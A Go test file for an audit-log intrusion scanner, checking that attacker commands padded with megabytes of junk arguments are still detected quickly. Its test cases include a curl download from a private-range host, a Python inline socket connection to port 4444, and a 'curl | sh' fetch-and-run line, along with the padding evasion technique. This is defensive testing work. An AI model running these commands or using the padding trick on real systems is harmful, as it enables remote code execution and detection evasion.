package main

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// The attacker writes the command lines, and Linux takes 6 MiB of argv
// per exec (each argument at most 128 KiB). Every pattern read a long
// command line at 40–3000 KB/s, and a fetch's siblings were read again
// for each fetch: 4 execs of 1 MiB took 16 s, 32 took minutes. Padding
// must neither slow the scan down past a linear cost nor hide what the
// command does.

// longArgvLog is an audit log of execs under apache2 (pid 100): pid 200
// runs argv as given, pids 201… run it with pad spliced in at the place
// the case says. Arguments longer than the kernel's 7.5 KB record piece
// are written as it writes them: a%d_len then a%d[k] hex parts.
func longArgvLog(exe string, argvs [][]string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "type=SYSCALL msg=audit(1796304000.000:1000): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=1 pid=100 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=\"apache2\" exe=\"/usr/sbin/apache2\" key=\"exec\"\n")
	fmt.Fprintf(&b, "type=EXECVE msg=audit(1796304000.000:1000): argc=1 a0=\"/usr/sbin/apache2\"\n")
	for i, argv := range argvs {
		hdr := fmt.Sprintf("msg=audit(%d.000:%d):", 1796304001+i, 1001+i)
		fmt.Fprintf(&b, "type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=1 ppid=100 pid=%d auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm=\"%s\" exe=\"%s\" key=\"exec\"\n", hdr, 200+i, filepath.Base(exe), exe)
		line := fmt.Sprintf("type=EXECVE %s argc=%d", hdr, len(argv))
		for j, a := range argv {
			if len(a) <= 3000 {
				line += fmt.Sprintf(" a%d=%s", j, strings.ToUpper(hex.EncodeToString([]byte(a))))
				continue
			}
			fmt.Fprintf(&b, "%s a%d_len=%d\n", line, j, 2*len(a))
			line = "type=EXECVE " + hdr
			for k := 0; k*3000 < len(a); k++ {
				part := a[k*3000 : min(len(a), (k+1)*3000)]
				fmt.Fprintf(&b, "type=EXECVE %s a%d[%d]=%s\n", hdr, j, k, strings.ToUpper(hex.EncodeToString([]byte(part))))
			}
		}
		if line != "type=EXECVE "+hdr {
			b.WriteString(line + "\n")
		}
		fmt.Fprintf(&b, "type=CWD %s cwd=\"/var/www\"\n", hdr)
	}
	return b.String()
}

// padArgs is n bytes of words that name nothing, as arguments of at most
// 128 KiB.
func padArgs(n int) []string {
	r := rand.New(rand.NewSource(int64(n)))
	var out []string
	for n > 0 {
		var w strings.Builder
		for w.Len() < min(n, 128<<10-16) {
			w.WriteByte("qzjwx"[r.Intn(5)])
			w.WriteString(strconv.Itoa(r.Intn(100000)))
			w.WriteByte(' ')
		}
		out = append(out, w.String())
		n -= w.Len()
	}
	return out
}

func TestAdversarialLongCommandLines(t *testing.T) {
	pad := padArgs(1 << 20)
	const long = 12 // padded execs per case
	cases := []struct {
		name string
		exe  string
		argv []string
		// padded splices the padding into argv
		padded func(argv []string) []string
	}{
		{"fetch, padding before the URL", "/usr/bin/curl", []string{"curl", "-s", "http://10.9.9.9/x.sh"},
			func(a []string) []string { return slices.Concat(a[:2], pad, a[2:]) }},
		{"inline interpreter, padding after", "/usr/bin/python3", []string{"python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('10.9.9.9',4444))"},
			func(a []string) []string { return slices.Concat(a, pad) }},
		{"shell, 127 KiB of words before the command", "/usr/bin/dash", []string{"sh", "-c", "curl -s http://10.9.9.9/x.sh | sh"},
			func(a []string) []string { return []string{a[0], a[1], pad[0][:127<<10] + "; " + a[2]} }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			argvs := [][]string{tc.argv}
			for range long {
				argvs = append(argvs, tc.padded(tc.argv))
			}
			path := filepath.Join(t.TempDir(), "audit.log")
			if err := os.WriteFile(path, []byte(longArgvLog(tc.exe, argvs)), 0o600); err != nil {
				t.Fatal(err)
			}
			done := make(chan string, 1)
			go func() {
				code, stdout, stderr := runCLI(t, "", "scan", "--format", "json", "--reproducible", "--fail-on", "none", path)
				if code != exitOK {
					stdout = "exit " + strconv.Itoa(code) + ": " + stderr
				}
				done <- stdout
			}()
			var out string
			select {
			case out = <-done:
			case <-time.After(bound(60 * time.Second)):
				t.Fatalf("scan did not finish in %v", bound(60*time.Second)) // 12 execs of 1 MiB: about 4 s of CPU now, 100 s and more before
			}
			var doc struct {
				Findings []struct {
					RuleID  string `json:"rule_id"`
					Stage   int    `json:"stage"`
					Process struct {
						PID int `json:"pid"`
					} `json:"process"`
				} `json:"findings"`
			}
			if err := json.Unmarshal([]byte(out), &doc); err != nil {
				t.Fatalf("report: %v: %.300s", err, out)
			}
			// what each exec was found to be: rule and stage
			found := map[int][]string{}
			for _, f := range doc.Findings {
				found[f.Process.PID] = append(found[f.Process.PID], f.RuleID+"@"+strconv.Itoa(f.Stage))
			}
			want := found[200]
			slices.Sort(want)
			if len(want) == 0 {
				t.Fatalf("the short command has no finding: %v", found)
			}
			t.Logf("the short command: %v; the first padded: %v", want, found[201])
			for pid := 201; pid <= 200+long; pid++ {
				got := found[pid]
				slices.Sort(got)
				// the first padded exec is judged as the short one was; a
				// repeat of the same act may be judged as a repeat (a
				// poll), so only the rules are compared for the rest
				if !slices.Equal(ruleIDsOf(got), ruleIDsOf(want)) {
					t.Errorf("pid %d (padded): %v, the short command: %v", pid, got, want)
				}
			}
		})
	}
}

func ruleIDsOf(found []string) []string {
	var out []string
	for _, f := range found {
		out = append(out, f[:strings.IndexByte(f, '@')])
	}
	return slices.Compact(out)
}
